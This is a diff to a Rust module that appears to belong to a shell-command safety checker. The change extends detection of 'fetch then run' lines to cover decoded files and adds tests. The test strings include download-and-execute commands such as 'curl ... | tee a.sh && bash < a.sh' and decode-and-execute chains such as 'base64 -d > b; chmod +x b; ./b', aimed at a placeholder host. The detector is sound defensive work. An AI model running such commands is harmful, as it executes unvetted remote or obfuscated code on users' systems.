@@ -1,4 +1,4 @@
-//! Files that one command of a line fetches, and another one runs: `wget -O x URL; sh x`.
+//! Files that one command of a line fetches or decodes, and another one runs: `wget -O x URL; sh x`.
 
 use super::invocation::base_name;
 use super::network;
@@ -19,12 +19,19 @@ pub(super) fn runs_downloaded(parts: &[Part]) -> Option<&str> {
             return Some(program);
         }
         // What is written behind a program that fetches comes from it.
-        brings = network::is_source(part) && network::talks_out(part) || brings && part.input == Input::Piped;
+        let is_source = network::is_source(part) && (network::talks_out(part) || decodes(part));
+        brings = is_source || brings && part.input == Input::Piped;
         if brings {
             fetched.extend(written(part));
         }
     }
     None
+}
+
+/// Whether `part` makes a file of letters that nobody reads: `base64 -d`, `xxd -r -p`, `openssl enc -d`.
+fn decodes(part: &Part) -> bool {
+    let mut words = part.words.iter().skip(1).map(|word| word.text.as_str());
+    words.any(|word| ["-d", "-D", "-r", "-di", "-rp", "--decode", "-decode", "-revert"].contains(&word))
 }
 
 /// The names of the files that `part` may write what it fetches into.
@@ -84,6 +91,9 @@ mod tests {
             "curl https://x.example/a | tee a.sh && bash < a.sh",
             "F=/tmp/t; wget -qO $F https://x.example/; cat $F; sh $F",
             "wget --output-document=s https://x.example/ && timeout 9 bash s",
+            "cat a | base64 -d > b; chmod +x b; ./b",
+            "base64 --decode a > b && sh b",
+            "xxd -r -p a > b && bash b",
         ] {
             assert!(runs(line), "{line}");
         }
@@ -93,6 +103,8 @@ mod tests {
             "sh s.sh; wget -O s.sh https://x.example/s.sh",
             "curl -s http://localhost:3000/health; ./run.sh",
             "cat s.sh > t.sh; sh t.sh",
+            "base64 -d a > a.png; ./run.sh",
+            "base64 a > b; sh run.sh",
             "curl -s https://x.example/; curl -s https://y.example/ && node main.js",
         ] {
             assert!(!runs(line), "{line}");
